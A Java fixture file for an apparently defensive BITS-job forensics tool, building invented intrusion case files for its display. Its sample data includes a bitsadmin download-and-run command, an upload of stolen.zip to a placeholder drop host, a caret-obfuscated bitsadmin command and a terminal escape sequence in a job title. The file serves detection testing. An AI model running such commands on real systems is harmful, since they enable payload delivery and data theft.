package org.bitshound.cli;

import java.time.Instant;
import java.util.ArrayList;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalLong;
import org.bitshound.casefile.Account;
import org.bitshound.casefile.Ancestor;
import org.bitshound.casefile.Attempt;
import org.bitshound.casefile.Case;
import org.bitshound.casefile.CaseFile;
import org.bitshound.casefile.ChildProcess;
import org.bitshound.casefile.Code;
import org.bitshound.casefile.Command;
import org.bitshound.casefile.CommandProcess;
import org.bitshound.casefile.Coverage;
import org.bitshound.casefile.CoverageStatus;
import org.bitshound.casefile.Creator;
import org.bitshound.casefile.DefectRow;
import org.bitshound.casefile.Destination;
import org.bitshound.casefile.EndedAs;
import org.bitshound.casefile.EndedBy;
import org.bitshound.casefile.Ending;
import org.bitshound.casefile.EvidenceFile;
import org.bitshound.casefile.EvidenceKind;
import org.bitshound.casefile.ExplainingList;
import org.bitshound.casefile.Explanation;
import org.bitshound.casefile.Finding;
import org.bitshound.casefile.Gap;
import org.bitshound.casefile.GapWhy;
import org.bitshound.casefile.Host;
import org.bitshound.casefile.IgnoredWhy;
import org.bitshound.casefile.Inference;
import org.bitshound.casefile.Job;
import org.bitshound.casefile.JobState;
import org.bitshound.casefile.JobType;
import org.bitshound.casefile.Kind;
import org.bitshound.casefile.LeftOut;
import org.bitshound.casefile.Match;
import org.bitshound.casefile.Notify;
import org.bitshound.casefile.Options;
import org.bitshound.casefile.Outcome;
import org.bitshound.casefile.Severity;
import org.bitshound.casefile.Span;
import org.bitshound.casefile.Summary;
import org.bitshound.casefile.Tool;
import org.bitshound.casefile.TransferFile;
import org.bitshound.casefile.Verdict;

/// Invented documents for the screen: nothing in them ever happened.
final class ScreenDocuments {
  static final Instant NOON = Instant.parse("2026-03-02T12:00:00Z");
  static final String LONG_URL =
      "https://files.example/very/long/path/of/a/release/that/does/not/fit/into/one/line/of/a/screen"
          + "/setup.cab?token=%E2%80%B9redacted&channel=stable&revision=20260302";

  private static final int RECORDS = 48_213;

  private ScreenDocuments() {}

  /// An intruder's jobs, an attempt and a sign; one job to review; ordinary jobs; damage.
  static CaseFile intrusion() {
    var cases = new ArrayList<Case>();
    cases.add(stagedTool());
    cases.add(upload());
    cases.add(attempt());
    cases.add(sign());
    cases.add(loneReview());
    for (int i = 0; i < 3; i++) {
      cases.add(failing(i));
    }
    for (int i = 0; i < 19; i++) {
      cases.add(expected(i, "edge-components", "Edge Component Updater"));
    }
    cases.add(expected(19, "windows-fonts", "Font Download"));
    List<Host> hosts =
        List.of(
            host("dc-01", cleared(), row("security-process-creation", CoverageStatus.CLEARED)),
            host("ws-01", wrapped(), row("sysmon", CoverageStatus.PRESENT)),
            host("ws-02", row("bits-client", CoverageStatus.ABSENT)),
            host("ws-03", row("bits-client", CoverageStatus.ABSENT)));
    List<EvidenceFile> evidence =
        List.of(
            unread("ws-01/qmgr.db", "esedbexport"),
            file("ws-01/bits.evtx", EvidenceKind.EVTX, RECORDS).toEvidenceFile());
    return document(cases, hosts, evidence, damage(), Optional.empty());
  }

  /// Two hosts of which one could not be seen, and no case.
  static CaseFile nothing() {
    return document(
        List.of(),
        List.of(
            host("ws-02", row("bits-client", CoverageStatus.ABSENT)),
            host("ws-04", log(), row("sysmon", CoverageStatus.PRESENT))),
        List.of(),
        List.of(),
        Optional.empty());
  }

  static CaseFile nothingBut(LeftOut leftOut) {
    return document(List.of(), List.of(), List.of(), List.of(), Optional.of(leftOut));
  }

  /// As many suspicious cases, each with a title of its own, and as many alike to review.
  static CaseFile many(int number) {
    var cases = new ArrayList<Case>();
    for (int i = 0; i < number; i++) {
      var one = draft(i, Severity.HIGH, "Somebody fetched something.");
      one.job = Optional.of(job("title " + i, JobState.TRANSFERRED).toJob());
      cases.add(one.toCase());
    }
    for (int i = 0; i < number; i++) {
      cases.add(failing(number + i));
    }
    return document(cases, List.of(), List.of(), List.of(), Optional.empty());
  }

  static CaseFile of(Case... cases) {
    return document(List.of(cases), List.of(), List.of(), List.of(), Optional.empty());
  }

  /// Files of which nothing but a defect is known.
  static CaseFile ofFiles(List<EvidenceFile> evidence, DefectRow... defects) {
    return document(List.of(), List.of(), evidence, List.of(defects), Optional.empty());
  }

  static CaseFile ofHosts(Host... hosts) {
    return document(List.of(), List.of(hosts), List.of(), List.of(), Optional.empty());
  }

  private static CaseFile document(
      List<Case> cases,
      List<Host> hosts,
      List<EvidenceFile> evidence,
      List<DefectRow> defects,
      Optional<LeftOut> leftOut) {
    Map<Verdict, Long> verdicts = new EnumMap<>(Verdict.class);
    Map<Severity, Long> severities = new EnumMap<>(Severity.class);
    for (Case one : cases) {
      verdicts.merge(one.verdict(), 1L, Long::sum);
      severities.merge(one.severity(), 1L, Long::sum);
    }
    Optional<Span> span =
        cases.isEmpty() ? Optional.empty() : Optional.of(new Span(NOON, NOON.plusSeconds(90_000)));
    var summary =
        new Summary(
            12,
            evidence.isEmpty() ? RECORDS : records(evidence),
            hosts.size(),
            cases.size(),
            cases.size(),
            verdicts,
            severities,
            defects.size(),
            0,
            leftOut,
            span);
    return new CaseFile(
        new Tool("bitshound", "0.1.0", "18.1"),
        new Options.Draft().toOptions(),
        summary,
        evidence,
        hosts,
        cases,
        List.of(),
        List.of(),
        defects,
        Optional.empty(),
        List.of());
  }

  private static long records(List<EvidenceFile> evidence) {
    return evidence.stream()
        .filter(file -> file.kind() == EvidenceKind.EVTX)
        .mapToLong(file -> file.records().orElse(0))
        .sum();
  }

  static Case.Draft draft(int number, Severity severity, String headline) {
    var one = new Case.Draft();
    one.id = Optional.of("BH-" + "0".repeat(10 - Integer.toString(number).length()) + number);
    one.kind = Optional.of(Kind.JOB);
    one.host = Optional.of("ws-01");
    one.first = Optional.of(NOON.plusSeconds(number));
    one.last = Optional.of(NOON.plusSeconds(number + 2L));
    one.headline = Optional.of(headline);
    one.severity = Optional.of(severity);
    boolean weighty = severity.compareTo(Severity.MEDIUM) >= 0;
    one.verdict = Optional.of(weighty ? Verdict.SUSPICIOUS : Verdict.REVIEW);
    return one;
  }

  private static Job.Draft job(String title, JobState state) {
    var job = new Job.Draft();
    job.title = Optional.of(title);
    job.state = Optional.of(state);
    return job;
  }

  static Finding finding(String analytic, Severity severity, String title, String why) {
    var finding = new Finding.Draft();
    finding.analytic = Optional.of(analytic);
    finding.severity = Optional.of(severity);
    finding.title = Optional.of(title);
    finding.why = Optional.of(why);
    finding.techniques = List.of("T1197");
    finding.evidence = List.of("e1");
    return finding.toFinding();
  }

  /// Everything that a job's case can show, a title that attacks the terminal and wide letters.
  private static Case stagedTool() {
    Case.Draft one =
        draft(
            1, Severity.CRITICAL, "LAB\\eve had bitsadmin.exe fetch setup.cab; it was completed.");
    Job.Draft job = job("更新\u001b[2J", JobState.ACKNOWLEDGED);
    job.id = Optional.of("00000000-1111-2222-3333-444444444444");
    job.type = Optional.of(JobType.DOWNLOAD);
    job.owner =
        Optional.of(new Account(Optional.of("LAB\\eve"), Optional.of("S-1-5-21-1-2-3-1105")));
    job.completed = Optional.of(NOON.plusSeconds(3));
    job.notifyCommand =
        Optional.of(
            new Notify(
                Optional.of("C:\\Users\\Public\\run.exe"),
                Optional.of("--now"),
                OptionalLong.empty()));
    job.endedBy = Optional.of(endedBy());
    one.job = Optional.of(job.toJob());
    one.creator = Optional.of(bitsadmin());
    one.files = List.of(longFile());
    one.destinations = List.of(destination("files.example"));
    one.children = List.of(child());
    one.findings =
        List.of(
            finding("notify-command", Severity.HIGH, "The job starts a program", "run.exe --now"),
            finding("userland-creator", Severity.LOW, "A program made the job", "bitsadmin.exe"));
    one.inferred =
        Map.of("job.title", new Inference("byUrlAndTime", Match.LIKELY, List.of("e1"), List.of()));
    return one.toCase();
  }

  private static EndedBy endedBy() {
    var end = new EndedBy.Draft();
    end.what = Optional.of(Ending.COMPLETED);
    end.user = Optional.of("LAB\\eve");
    end.as = Optional.of(EndedAs.OWNER);
    return end.toEndedBy();
  }

  private static Creator bitsadmin() {
    var creator = new Creator.Draft();
    creator.image = Optional.of("C:\\Windows\\System32\\bitsadmin.exe");
    creator.commandLine =
        Optional.of("bitsadmin /transfer x " + LONG_URL + " C:\\Users\\Public\\setup.cab");
    creator.processId = OptionalLong.of(4711);
    creator.user = Optional.of("LAB\\eve");
    creator.match = Optional.of(Match.LIKELY);
    creator.ancestors =
        List.of(
            ancestor("cmd.exe", "cmd.exe /c go.bat"), ancestor("C:\\w\\WINWORD.EXE", "word /n"));
    return creator.toCreator();
  }

  private static Ancestor ancestor(String image, String commandLine) {
    var ancestor = new Ancestor.Draft();
    ancestor.image = Optional.of(image);
    ancestor.commandLine = Optional.of(commandLine);
    return ancestor.toAncestor();
  }

  private static TransferFile longFile() {
    var file = new TransferFile.Draft();
    file.url = Optional.of(LONG_URL);
    file.destination = Optional.of("C:\\Users\\Public\\setup.cab");
    file.sizeTotal = OptionalLong.of(1_482_752);
    file.sizeTransferred = OptionalLong.of(1_482_752);
    file.started = Optional.of(NOON);
    file.stopped = Optional.of(NOON.plusMillis(2_100));
    file.result = Optional.of(new Code("0x00000000", Optional.of("S_OK"), Optional.of("done")));
    return file.toTransferFile();
  }

  private static ChildProcess child() {
    var child = new ChildProcess.Draft();
    child.time = Optional.of(NOON.plusSeconds(4));
    child.commandLine = Optional.of("C:\\Users\\Public\\run.exe --now");
    child.why = Optional.of("the job's notify command");
    return child.toChildProcess();
  }

  private static Destination destination(String host) {
    var destination = new Destination.Draft();
    destination.host = Optional.of(host);
    return destination.toDestination();
  }

  /// The local name comes first where data leaves.
  private static Case upload() {
    Case.Draft one = draft(2, Severity.HIGH, "LAB\\eve had powershell.exe send stolen.zip.");
    Job.Draft job = job("out", JobState.CANCELLED);
    job.type = Optional.of(JobType.UPLOAD);
    one.job = Optional.of(job.toJob());
    var file = new TransferFile.Draft();
    file.url = Optional.of("https://drop.example/in");
    file.destination = Optional.of("C:\\Users\\eve\\stolen.zip");
    file.sizeTotal = OptionalLong.of(9_000_000);
    file.sizeTransferred = OptionalLong.of(1_000);
    file.result =
        Optional.of(
            new Code("0x80072ee7", Optional.empty(), Optional.of("the name was not found")));
    one.files = List.of(file.toTransferFile());
    return one.toCase();
  }

  private static Case attempt() {
    Case.Draft one = draft(3, Severity.MEDIUM, "LAB\\eve tried to make a job; no job was seen.");
    one.kind = Optional.of(Kind.ATTEMPT);
    one.attempt =
        Optional.of(
            new Attempt(
                Outcome.WOULD_FAIL,
                Optional.of("switch-not-accepted"),
                OptionalLong.empty(),
                OptionalLong.of(2),
                Optional.empty()));
    var command = new Command.Draft();
    command.time = Optional.of(NOON);
    command.tool = Optional.of("bitsadmin");
    command.text = Optional.of("cmd /c b^itsadmin /transfr x http://a.example/b c:\\b");
    command.decoded = Optional.of("bitsadmin /transfr x http://a.example/b c:\\b");
    var process = new CommandProcess.Draft();
    process.user = Optional.of("LAB\\eve");
    command.process = Optional.of(process.toCommandProcess());
    one.commands = List.of(command.toCommand());
    return one.toCase();
  }

  private static Case sign() {
    Case.Draft one = draft(4, Severity.MEDIUM, "The BITS log of dc-01 was cleared by LAB\\eve.");
    one.kind = Optional.of(Kind.SIGN);
    one.host = Optional.of("dc-01");
    one.findings =
        List.of(
            finding("log-cleared", Severity.MEDIUM, "A log was cleared", "event 104 by LAB\\eve"));
    return one.toCase();
  }

  private static Case loneReview() {
    Case.Draft one =
        draft(5, Severity.LOW, "LAB\\bob had tool.exe fetch list.txt; it was completed.");
    one.findings =
        List.of(finding("userland-creator", Severity.LOW, "A program made the job", "tool.exe"));
    return one.toCase();
  }

  static Case failing(int number) {
    Case.Draft one = draft(6 + number, Severity.NONE, "svchost.exe fetched maps; it failed.");
    one.job = Optional.of(job("Maps", JobState.TRANSIENT_ERROR).toJob());
    one.destinations = List.of(destination("maps.example"));
    return one.toCase();
  }

  static Case expected(int number, String entry, String title) {
    Case.Draft one = draft(100 + number, Severity.NONE, "msedge.exe fetched a component.");
    one.verdict = Optional.of(Verdict.EXPECTED);
    JobState state = number == 0 ? JobState.CANCELLED : JobState.ACKNOWLEDGED;
    one.job = Optional.of(job(title, state).toJob());
    one.expectedBecause =
        List.of(
            new Explanation(
                entry,
                ExplainingList.KNOWN_GOOD,
                "the program fetches its parts",
                List.of(),
                List.of(),
                Optional.empty(),
                List.of()));
    return one.toCase();
  }

  static Host host(String name, Coverage... coverage) {
    var host = new Host.Draft();
    host.name = Optional.of(name);
    host.coverage = List.of(coverage);
    return host.toHost();
  }

  static Coverage row(String source, CoverageStatus status) {
    var row = new Coverage.Draft();
    row.source = Optional.of(source);
    row.status = Optional.of(status);
    return row.toCoverage();
  }

  private static Coverage.Draft bits(CoverageStatus status) {
    var row = new Coverage.Draft();
    row.source = Optional.of("bits-client");
    row.status = Optional.of(status);
    row.first = Optional.of(NOON.minusSeconds(864_000));
    row.last = Optional.of(NOON.plusSeconds(90_000));
    return row;
  }

  static Coverage log() {
    return bits(CoverageStatus.PRESENT).toCoverage();
  }

  private static Coverage cleared() {
    return bits(CoverageStatus.CLEARED).toCoverage();
  }

  private static Coverage wrapped() {
    Coverage.Draft row = bits(CoverageStatus.PRESENT);
    row.wrapped = Optional.of(true);
    var gap = new Gap.Draft();
    gap.from = OptionalLong.of(91);
    gap.to = OptionalLong.of(104);
    gap.why = Optional.of(GapWhy.DAMAGED);
    row.gaps = List.of(gap.toGap());
    return row.toCoverage();
  }

  static EvidenceFile.Draft file(String path, EvidenceKind kind, long records) {
    var file = new EvidenceFile.Draft();
    file.path = Optional.of(path);
    file.kind = Optional.of(kind);
    file.size = OptionalLong.of(1);
    file.records = OptionalLong.of(records);
    return file;
  }

  private static EvidenceFile unread(String path, String reader) {
    var file = new EvidenceFile.Draft();
    file.path = Optional.of(path);
    file.kind = Optional.of(EvidenceKind.IGNORED);
    file.size = OptionalLong.of(1);
    file.why = Optional.of(IgnoredWhy.NOT_READ);
    file.reader = Optional.of(reader);
    return file.toEvidenceFile();
  }

  private static List<DefectRow> damage() {
    var rows = new ArrayList<DefectRow>();
    for (int i = 0; i < 5; i++) {
      var row = new DefectRow.Draft();
      row.path = Optional.of("ws-01/bits.evtx");
      row.offset = OptionalLong.of(4_096L + 65_536L * i);
      row.what = Optional.of(i == 4 ? "chunk-checksum" : "record-truncated");
      row.effect = Optional.of(i == 4 ? "it is read" : "records 91 to 104 are missing");
      row.severity = Optional.of(i == 4 ? "doubtful" : "lost");
      rows.add(row.toDefectRow());
    }
    return rows;
  }
}
